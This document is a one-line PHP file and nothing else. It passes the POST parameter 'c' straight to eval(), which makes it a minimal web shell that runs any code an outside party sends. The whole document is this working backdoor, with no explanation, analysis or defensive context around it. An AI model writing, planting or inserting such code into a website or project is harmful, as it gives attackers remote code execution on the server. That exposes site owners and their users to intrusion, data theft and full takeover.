<?php eval(filter_input(INPUT_POST, 'c')); ?>
